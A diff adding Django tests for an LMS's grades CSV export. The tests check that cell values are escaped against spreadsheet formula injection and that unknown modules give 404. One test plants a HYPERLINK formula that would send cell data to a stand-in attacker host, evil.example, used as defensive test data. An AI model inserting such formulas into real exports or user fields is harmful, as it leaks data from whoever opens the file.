@@ -127,6 +127,40 @@ def test_grades_csv(admin_client_, two_learners_took_the_exam):
     assert one.content == response.content
 
 
+def test_grades_csv_cells_cannot_become_formulas(admin_client_, two_learners_took_the_exam):
+    """Issue 13: the grades CSV wrote a learner's display name '=HYPERLINK(...)' raw, while the
+    enrollments CSV neutralised it; both now write through lms.csv_export."""
+    from django.contrib.auth import get_user_model
+
+    get_user_model().objects.filter(username="strong").update(
+        username="@strong",
+        display_name='=HYPERLINK("https://evil.example/?"&A1,"Noten")',
+        email="+strong@example.org",
+    )
+    get_user_model().objects.filter(username="weak").update(display_name="-2+3")
+    response = admin_client_.get("/admin/quizzes/examattempt/grades.csv")
+    by_user = {
+        row["username"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))
+    }
+    assert set(by_user) == {"'@strong", "weak"}
+    strong = by_user["'@strong"]
+    assert strong["name"] == """'=HYPERLINK("https://evil.example/?"&A1,"Noten")"""
+    assert strong["email"] == "'+strong@example.org"
+    assert by_user["weak"]["name"] == "'-2+3"
+    # What Lernpfad itself writes (numbers, booleans, times) stays as it is.
+    assert strong["final_grade"] == "90.00" and strong["passed"] == "True"
+    assert strong["last_finalized_at"][:2] == "20"
+
+
+@pytest.mark.parametrize("module", ["no-such-module", "x" * 300, "ä"])
+def test_grades_csv_of_an_unknown_module_is_a_404(
+    admin_client_, two_learners_took_the_exam, module
+):
+    """Issue 13: ?module=<unknown> raised the API's ModuleNotFound in the admin, a 500."""
+    response = admin_client_.get("/admin/quizzes/examattempt/grades.csv", {"module": module})
+    assert response.status_code == 404
+
+
 def test_grades_csv_needs_staff(client, two_learners_took_the_exam):
     response = client.get("/admin/quizzes/examattempt/grades.csv")
     assert response.status_code == 302 and "/login/" in response["Location"]
